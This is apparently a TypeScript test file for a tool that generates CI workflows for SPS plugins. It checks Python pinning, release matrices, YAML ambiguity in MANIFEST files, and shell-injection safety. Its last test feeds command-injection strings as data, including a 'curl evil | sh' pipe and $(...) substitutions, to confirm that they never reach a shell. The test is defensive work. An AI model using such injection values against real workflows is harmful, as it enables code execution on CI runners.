/** adopt's reading of a plugin: the Python its CI runs the tools on. */
import { describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";
import { dataOf } from "../../src/render/render.js";
import { composeAdoption, inspectPlugin } from "../../src/update/adoption.js";

const MANIFEST = "name: Gate\ndescription: d\nversion: 1.0.0\ntype: aa\napi: 1.6\nentry_point: main.py\n";
const pipfile = (python: string) =>
  `[packages]\n\n[dev-packages]\n\n[requires]\npython_version = "${python}"\n`;

describe("the Python adopt's CI runs the tools on", () => {
  it.each([
    ["3.6", "3.8"],
    ["3.7", "3.8"],
    ["3.8", "3.8"],
    ["3.11", "3.11"],
  ])("a Pipfile pinning %s gets %s (the tools need 3.8+, the CI offers nothing older)", (pin, python) => {
    const plugin = inspectPlugin("gate", {
      manifest: MANIFEST,
      paths: [],
      importsSdk: false,
      pipfile: pipfile(pin),
    });
    expect(plugin.adopted.python).toBe(python);
  });
});

describe("the SPS releases an adopted plugin claims, and the CI that verifies them", () => {
  const manifest = (api: string, extra = "") =>
    `name: Gate\ndescription: d\nversion: 1.0.0\ntype: credentialstore\napi: ${api}\nentry_point: main.py\n${extra}`;
  const adopt = (text: string) =>
    inspectPlugin("gate", { manifest: text, paths: [], importsSdk: false, pipfile: undefined });
  const workflow = (text: string) =>
    String(dataOf(composeAdoption(adopt(text), "0").get(".github/workflows/sps-plugin.yml") ?? ""));

  it("an SPS 6 plugin (api 1.1) is verified on 3.6 in a container, and on 3.8 and 3.12", () => {
    const plugin = adopt(manifest("1.1"));
    expect(plugin.answers.sps).toBe("6.0");
    expect(plugin.adopted.claims?.[0]).toBe("6.0");
    const text = workflow(manifest("1.1"));
    expect(text).toContain("container: python:3.6-bullseye");
    expect(text).toMatch(
      /sps_dev verify dist\/\*\.zip --python \/usr\/local\/bin\/python3\.6\s+--sps 6\.0 --sps 6\.1 --sps 6\.2 --sps 6\.3 --sps 6\.5 --sps 6\.7\n/,
    );
    expect(text).toContain('- python-version: "3.8"\n            sps: "--sps 6.10 --sps 7.0 --sps 8.0"');
    expect(text).toContain('- python-version: "3.12"\n            sps: "--sps 9.0"');
    expect(text).not.toContain('python-version: "3.6"');
  });

  it("scb_max_version bounds the matrix, and SPS 6 alone has no 3.8 job", () => {
    expect(adopt(manifest("1.7.0", "scb_max_version: 8.0.0~\n")).adopted.claims).toEqual(["6.10", "7.0"]);
    const onlySix = workflow(manifest("1.4", "scb_max_version: 6.5.0\n"));
    expect(onlySix).toContain("--sps 6.3 --sps 6.5");
    expect(onlySix).not.toContain("\n  verify:\n");
    expect(workflow(manifest("1.7", "scb_min_version: 7.0.0\n"))).not.toContain("python3.6");
  });

  it("a MANIFEST that claims no release this tool knows is refused, naming the fields", () => {
    expect(() => adopt(manifest("1.9", "scb_max_version: 8.0.0~\n"))).toThrow(
      /MANIFEST scb_min_version\/scb_max_version: api 1\.9 .* claims no SPS release/,
    );
  });
});

describe("a MANIFEST that SPS's YAML would read otherwise is refused", () => {
  const base = "description: d\nversion: 1.0.0\ntype: aa\nentry_point: main.py\n";
  const adopt = (text: string) =>
    inspectPlugin("gate", { manifest: text, paths: [], importsSdk: false, pipfile: undefined });
  it.each([
    ["name: Yes\napi: 1.7\n", "name: Yes is read by YAML as a boolean"],
    ["name: Gate\napi: 1.7\n---\nname: Other\n", "starts another YAML document"],
    ["name: Gate\napi: 1.7\nname: Other\n", "name is given twice"],
    ["name: Gate\napi: 1.10\n", "api: 1.10 is read by YAML as the number 1.1"],
    ["name: ~\napi: 1.7\n", "name: ~ is read by YAML as null"],
    ["name: &a Gate\napi: 1.7\n", "starts with a YAML indicator"],
  ])("%j", (head, why) => {
    expect(() => adopt(head + base)).toThrow(why);
  });

  it.each(["name: Gate\napi: 1.7.0\n", "name: Gate\napi: 1.6\n", 'name: "Yes"\napi: "1.9"\n'])(
    "the vendor's forms are taken: %j",
    (head) => {
      expect(() => adopt(head + base)).not.toThrow();
    },
  );
});

describe("values read from a plugin never reach a workflow's shell as code", () => {
  it.each([
    ["$(touch /tmp/owned)", ["`id`"]],
    ['"; curl evil | sh; "', ["tests/$(whoami)"]],
    ["sdk==1.0\nrun: evil", ["a\nb"]],
  ])("sdk %j, tests %j", (sdk, tests) => {
    const plugin = {
      answers: {
        type: "aa" as const,
        starter: "example" as const,
        name: "Gate",
        description: "d",
        author: "",
        email: "",
        sps: "6.0",
      },
      adopted: { python: "3.8", sdk, pipfile: true, requirements: [], tests },
    };
    const workflow = String(
      dataOf(composeAdoption(plugin, "0").get(".github/workflows/sps-plugin.yml") ?? ""),
    );
    const parsed = parseYaml(workflow) as {
      jobs: Record<string, { steps: { run?: string; env?: Record<string, string> }[] }>;
    };
    const steps = Object.values(parsed.jobs).flatMap((job) => job.steps);
    for (const step of steps) {
      for (const value of [sdk, ...tests]) expect(step.run ?? "", step.run).not.toContain(value);
    }
    // They arrive as environment variables, which YAML reads back exactly.
    const env = steps.flatMap((step) => Object.values(step.env ?? {}));
    expect(env).toContain(sdk);
    for (const test of tests) expect(env).toContain(test);
  });
});
